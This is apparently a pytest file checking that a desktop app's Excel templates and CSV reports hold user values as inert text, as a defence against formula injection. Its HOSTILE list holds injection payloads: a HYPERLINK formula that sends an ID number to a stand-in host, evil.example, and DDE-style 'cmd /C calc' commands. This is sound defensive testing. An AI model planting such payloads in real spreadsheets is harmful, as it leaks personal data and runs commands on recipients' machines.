"""Workbooks and CSV files the app writes hold data as text, never as a formula (CSV/formula injection).

openpyxl stores any string starting with "=" as a live formula: a name such as
`=HYPERLINK("http://evil/?"&B2, "点击")` became a link that sends the row's ID number away when an
enterprise opens the template. Every cell is written as a string, the data cells are formatted as
text, the values read back unchanged, and the batch report's CSV defuses =, +, -, @, tab and CR.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text

from desktop_app.errors import KnownError
from desktop_app.reports import supplement_template as tpl
from desktop_app.services.batch import report_csv
from desktop_app.services.supplement_import import REASON, import_supplement
from desktop_app.services.supplement_read import read_template
from desktop_app.services.worklists import supplement_worklist
from desktop_app.store.engine import Cache
from tests.helpers.search_fixtures import JINAN, TODAY, resident_id
from tests.unit.services.test_worklists import BOTH, JINAN_LIST, build_campaign_cache

HOSTILE = (
    '=HYPERLINK("http://evil.example/?id="&B2,"点击查看")',
    "=1+2",
    "+86 1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=cmd|' /C notepad'!'A1'",
)


@dataclass(frozen=True)
class Row:
    """A worklist row (tpl.TemplateRow) with whatever values a record may carry."""

    id_number: str
    name: str
    enterprise: str | None
    certificates: tuple[str, ...]
    position: str | None
    title: str | None
    education: str | None
    major: str | None
    phone: str | None
    missing_text: str = "职务"


def hostile_rows() -> list[Row]:
    rows = []
    for index, value in enumerate(HOSTILE):
        rows.append(Row(resident_id("370102", "19800101", f"{index + 100:03d}"), value, value, (value,),
                        value, value, value, value, value, missing_text=value))
    return rows


def formulas(path: Path) -> list[str]:
    """Every formula element in the saved file's XML, whatever openpyxl thinks of it."""
    with zipfile.ZipFile(path) as archive:
        return [m for name in archive.namelist() if name.endswith(".xml")
                for m in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode("utf-8"))]


def test_hostile_values_are_written_as_text_and_read_back_unchanged(tmp_path: Path) -> None:
    rows = hostile_rows()
    path = tmp_path / "t.xlsx"
    tpl.export_template(rows, path, JINAN)
    assert formulas(path) == []
    wb = openpyxl.load_workbook(path)
    assert [(ws.title, c.coordinate) for ws in wb.worksheets for line in ws.iter_rows() for c in line
            if c.data_type == "f"] == []
    ws = wb[tpl.DATA_SHEET]
    for r, row in enumerate(rows, start=tpl.FIRST_DATA_ROW):
        for column in tpl.COLUMNS[1:]:
            cell = ws.cell(r, tpl.COLUMNS.index(column) + 1)
            expected = "、".join(row.certificates) if column.key == "certificates" else getattr(row, column.key)
            assert (cell.value, cell.data_type, cell.number_format) == (expected, "s", "@"), column.header


def test_the_importer_reads_hostile_text_back_as_typed(tmp_path: Path) -> None:
    rows = hostile_rows()
    path = tmp_path / "t.xlsx"
    tpl.export_template(rows, path, JINAN)
    _marker, read = read_template(path)
    assert [r.problems for r in read] == [[] for _ in rows]
    for got, row in zip(read, rows, strict=True):
        assert (got.id_number, got.name) == (row.id_number, row.name.strip())
        assert got.values == {c.key: getattr(row, c.key).strip() for c in tpl.FILLABLE}


def test_controls_xml_cannot_hold_are_dropped_instead_of_crashing_the_export(tmp_path: Path) -> None:
    row = Row(resident_id("370102", "19800101", "100"), "王\x1b[2J\x00五", None, (), None, None, None,
              "\x07专业", None)
    tpl.export_template([row], tmp_path / "t.xlsx", JINAN)
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")[tpl.DATA_SHEET]
    assert ws.cell(2, 3).value == "王[2J五" and ws.cell(2, 10).value == "专业"


def test_a_cache_holding_hostile_values_round_trips_through_the_template(tmp_path: Path) -> None:
    cache: Cache = build_campaign_cache(tmp_path)
    enterprise, major = HOSTILE[0], HOSTILE[4]  # (a name is checked again on import: it must be a name)
    with cache.engine.begin() as conn:  # as a record typed before the validators knew better would be
        conn.execute(text("UPDATE persons SET major = :major WHERE id_number = :id"), {"major": major, "id": BOTH})
        conn.execute(text("UPDATE enterprises SET name = :name WHERE name = '济南鲁能建设集团有限公司'"),
                     {"name": enterprise})
    path = tmp_path / "t.xlsx"
    tpl.export_template(supplement_worklist(cache, unit=JINAN, today=TODAY), path, JINAN)
    assert formulas(path) == []
    wb = openpyxl.load_workbook(path)
    ws = wb[tpl.DATA_SHEET]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 2).value == BOTH)
    assert (ws.cell(row, 4).value, ws.cell(row, 10).value) == (enterprise, major)
    ws.cell(row, 7).value, ws.cell(row, 8).value = "总经理", "高级工程师"  # the enterprise fills in BOTH's gaps
    wb.save(path)
    report = import_supplement(cache, path, operator="窗口甲")
    assert report.rejected == [] and report.applied == 1 and report.rows == len(JINAN_LIST)
    with sqlite3.connect(cache.path) as conn:
        assert conn.execute("SELECT major FROM persons WHERE id_number = ?", (BOTH,)).fetchone() == (major,)
        fields = {f for (f,) in conn.execute("SELECT field FROM audit_log WHERE reason = ?", (REASON,))}
    assert fields == {"position", "title"}  # the hostile major came back equal: not "changed"


@pytest.mark.parametrize(("version", "ok"), [("1", True), (" 1 ", True), (1.0, True), ("one", False),
                                             ("١", False), (True, False), (0, False)])
def test_a_version_cell_rewritten_as_text_is_still_version_1(tmp_path: Path, version: object, ok: bool) -> None:
    path = tmp_path / "t.xlsx"
    tpl.export_template(hostile_rows()[:1], path, JINAN)
    wb = openpyxl.load_workbook(path)
    marker = wb[tpl.MARKER_SHEET]
    assert marker.cell(2, 1).value == "version"
    marker.cell(2, 2).value = version
    wb.save(path)
    if ok:
        assert read_template(path)[0]["version"] == 1
    else:
        with pytest.raises(KnownError, match="模板标记已损坏"):
            read_template(path)


def test_the_batch_report_csv_defuses_formulas_per_owasp() -> None:
    rows = [(value, "王五", "37010219800101100X", f"{value}；缺少照片") for value in HOSTILE]
    rows.append(("鲁建安B（2020）0000007", "李娜", "370203199001011234", "缺少照片"))
    text = report_csv(rows).decode("utf-8")
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text[1:])))
    for got, value in zip(read[1:], HOSTILE, strict=False):
        assert got[0] == "'" + value and got[3] == "'" + value + "；缺少照片"
        assert got[1:3] == ["王五", "37010219800101100X"]
    assert read[-1] == list(rows[-1])  # ordinary values untouched
    assert all(cell[:1] not in "=+-@\t\r" for line in read for cell in line if cell)
